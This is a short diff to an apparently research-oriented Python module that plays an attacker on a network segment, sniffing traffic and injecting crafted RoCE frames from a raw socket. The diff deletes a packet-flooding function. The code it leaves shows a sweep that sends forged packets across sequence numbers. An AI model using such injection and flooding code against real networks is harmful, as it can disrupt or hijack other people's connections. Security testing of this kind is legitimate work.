@@ -1,5 +1,4 @@
 """An attacker on the segment: it reads what passes by, and sends packets of its own from a raw socket."""
-import contextlib
 import glob
 import os
 import select
@@ -14,7 +13,6 @@ ETH_P_ALL, SO_RCVBUFFORCE = 3, 33
 FRAME_BYTES_MAX = 65536
 POLL_SECONDS, SILENCE_SECONDS = 0.02, 0.3
 RECEIVE_BYTES = 16 << 20
-FLOOD_BURST = 20
 CLC_EYECATCHER = b"\xe2\xd4\xc3\xd9"
 ETHERTYPE_IP = b"\x08\x00"
 CLC_ACCEPT, CLC_CONFIRM, CLC_BYTES_MIN = 2, 3, 68
@@ -106,22 +104,6 @@ def sweep(macs, packet, first, count):
             fixed.psn = psn
             sock.send(roce.frame(fixed, *macs))
     return count / (time.monotonic() - begun)
-
-
-def flood(speak, macs, packet, until):
-    """Sends a packet again and again, until the file exists; how often."""
-    data, count = roce.frame(packet_of(packet), *macs), 0
-    with raw_socket(protocol=0) as sock:
-        speak(flooding=True)
-        while not os.path.exists(until):
-            for _ in range(FLOOD_BURST):
-                with contextlib.suppress(BlockingIOError):
-                    sock.send(data)
-            count += FLOOD_BURST
-    return count
-
-
-flood.speaks = True
 
 
 def counters():
